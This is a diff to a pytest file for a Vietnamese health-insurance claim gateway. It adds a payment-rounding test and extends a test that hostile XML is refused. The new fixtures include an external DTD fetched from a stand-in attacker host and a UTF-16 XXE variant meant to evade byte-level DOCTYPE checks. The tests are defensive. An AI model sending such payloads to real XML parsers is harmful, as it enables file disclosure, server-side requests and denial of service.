@@ -8,7 +8,7 @@ import pytest
 
 from ansinh.core.time import VN_TZ
 from ansinh.gateway import qd130
-from tests.gateway import his
+from tests.support import his
 
 FACILITY = "01001"
 
@@ -97,6 +97,20 @@ def test_the_fund_pays_the_insured_part_less_the_co_payment() -> None:
     assert [(r.field, r.reason) for r in refusals] == [
         ("T_BHTT", "T_BHTT (60000) khác T_TONGCHI_BH − T_BNCCT (52444.00).")
     ]
+
+
+def test_the_fund_never_pays_more_than_the_insured_part_once_both_are_in_whole_dong() -> None:
+    # Within the 1-đồng tolerance, 65,555.90 rounds to more than the 65,555 insured: kept, it would break the visit's
+    # own rule (what the fund pays is within the insured part), and no resubmission could ever be stored.
+    claim = _claim()
+    claim["XML1"] = (
+        claim["XML1"]
+        .replace(b"<T_BNCCT>13111.00</T_BNCCT>", b"<T_BNCCT>0</T_BNCCT>")
+        .replace(b"<T_BHTT>52444.00</T_BHTT>", b"<T_BHTT>65555.90</T_BHTT>")
+    )
+    refusals = qd130.judge_claim(claim, facility_code=FACILITY)
+    assert isinstance(refusals, list)
+    assert ("T_BHTT", "T_BHTT lớn hơn T_TONGCHI_BH.") in [(r.field, r.reason) for r in refusals]
 
 
 def test_another_facilitys_code_in_xml1_is_refused() -> None:
@@ -199,7 +213,18 @@ BILLION_LAUGHS = b"""<?xml version="1.0"?>
 <GIAMDINHHS>&lol3;</GIAMDINHHS>"""
 
 
-@pytest.mark.parametrize("document", [XXE, BILLION_LAUGHS], ids=["external-entity", "entity-expansion"])
+# An external DTD with no internal subset: nothing may be fetched, so a DOCTYPE alone is refused.
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE GIAMDINHHS SYSTEM "http://attacker.example/evil.dtd"><GIAMDINHHS/>"""
+# The same attack in UTF-16 (which expat reads): no byte-level search for "<!DOCTYPE" would see it.
+UTF16_XXE = XXE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
+
+
+@pytest.mark.parametrize(
+    "document",
+    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, UTF16_XXE],
+    ids=["external-entity", "entity-expansion", "external-dtd", "utf-16"],
+)
 def test_hostile_xml_is_refused_before_anything_is_read(document: bytes) -> None:
     with pytest.raises(qd130.FileRefused, match="DTD hoặc thực thể"):
         qd130.read_envelope(document)
